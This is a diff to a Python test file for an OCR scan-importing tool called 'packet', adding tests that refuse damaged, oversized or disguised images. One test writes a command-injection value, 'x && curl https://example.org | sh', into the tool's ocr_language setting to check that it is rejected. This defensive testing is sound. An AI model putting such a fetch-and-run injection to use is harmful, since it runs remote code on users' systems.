@@ -216,7 +216,7 @@ def test_a_damaged_page_among_photos_refuses_them_all(
     result = run_packet("pull", *map(str, two_photos), str(bad), cwd=fresh, timeout=600)
     assert result.returncode == 1
     assert "this picture is damaged" in result.stderr
-    assert "IMG_001.jpg, IMG_002.jpg, IMG_003.jpg" in result.stderr
+    assert "IMG_003.jpg: this picture is damaged" in result.stderr  # the one at fault
     assert snapshot(fresh) == before
 
 
@@ -414,3 +414,97 @@ def test_a_photo_without_words_is_offered_as_a_figure_on_a_terminal(
         result = run_packet("pull", str(landscape), cwd=fresh)
         assert result.returncode == 1 and "[y/N]" not in result.stdout + result.stderr
         assert "pull it with --figure" in result.stderr
+
+
+# -- a shared unit's scans: the hostile catalogue ----------------------------------------------
+
+
+def _tiff_of_many(path: Path, pages: int) -> Path:
+    from PIL import Image
+
+    first = Image.new("L", (40, 40), 255)
+    first.save(path, "TIFF", save_all=True, append_images=[first] * (pages - 1))
+    return path
+
+
+def _lab_tiff(path: Path) -> Path:
+    from PIL import Image
+
+    Image.new("LAB", (400, 300)).save(path, "TIFF")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("name", "make", "said"),
+    [
+        ("book.tif", lambda p: _tiff_of_many(p, 301), "holds 301 pages; packet reads at most 300"),
+        ("odd.tif", _lab_tiff, "this picture is damaged or not a picture packet reads"),
+        ("notes.png", lambda p: p.write_bytes(b"%!PS-Adobe-3.0\nshowpage\n"), "not a PNG"),
+    ],
+)
+def test_a_scan_packet_cannot_read_is_refused_with_its_name(
+    fresh: Path, tmp_path: Path, name: str, make: object, said: str
+) -> None:
+    source = tmp_path / name
+    make(source)  # type: ignore[operator]
+    before = snapshot(fresh)
+    result = run_packet("pull", str(source), cwd=fresh)
+    assert result.returncode == 1 and said in result.stderr, result.stderr
+    assert name in result.stderr and "internal error" not in result.stderr
+    assert snapshot(fresh) == before
+
+
+def test_among_photos_the_one_that_cannot_be_read_is_named(
+    fresh: Path, two_photos: list[Path], tmp_path: Path
+) -> None:
+    bad = tmp_path / "IMG_000.png"
+    bad.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
+    result = run_packet("pull", str(bad), *map(str, two_photos), cwd=fresh)
+    assert result.returncode == 1
+    assert re.search(r"IMG_000\.png: this picture is damaged", result.stderr), result.stderr
+    assert "IMG_001.jpg:" not in result.stderr
+
+
+def test_text_hidden_in_a_transparent_picture_is_not_read(fresh: Path, tmp_path: Path) -> None:
+    from PIL import Image, ImageDraw, ImageFont
+
+    picture = Image.new("RGBA", (1600, 400), (0, 0, 0, 0))
+    ImageDraw.Draw(picture).text(
+        (60, 120), "Hidden words nobody sees", fill=(0, 0, 0, 0),
+        font=ImageFont.load_default(size=90),
+    )  # fmt: skip
+    hidden = tmp_path / "blank.png"
+    picture.save(hidden)
+    result = run_packet("pull", str(hidden), cwd=fresh)
+    assert result.returncode == 1 and "OCR found no text" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("value", "said"),
+    [
+        ('"x && curl https://example.org | sh"', "ocr_language"),
+        ('"osd"', "'osd' is not a language"),
+    ],
+)
+def test_an_ocr_language_that_is_no_language_is_refused(
+    fresh: Path, scans: dict[str, tuple[Path, Path]], value: str, said: str
+) -> None:
+    toml = fresh / "packet.toml"
+    toml.write_text(re.sub(r"(\[packet\]\n)", rf"\1ocr_language = {value}\n", toml.read_text()))
+    scan, _ = scans["photo"]
+    result = run_packet("pull", str(scan), cwd=fresh)
+    assert result.returncode == 1 and said in result.stderr, result.stderr
+    assert "curl" not in result.stderr.split("—")[-1]  # never suggested as a command
+
+
+def test_a_record_listing_a_page_twice_or_its_own_record_is_an_error(
+    fresh: Path, two_photos: list[Path]
+) -> None:
+    assert run_packet("pull", *map(str, two_photos), cwd=fresh, timeout=600).returncode == 0
+    record_path = fresh / "seeds" / "IMG_001.jpg.meta.yaml"
+    record = yaml.safe_load(record_path.read_text())
+    for parts in (["IMG_002.jpg", "IMG_002.jpg"], ["IMG_001.jpg"], ["IMG_001.jpg.meta.yaml"]):
+        record["parts"] = parts
+        record_path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False))
+        checked = run_packet("check", cwd=fresh)
+        assert checked.returncode == 1 and "cannot be a page of seed" in checked.stderr, parts
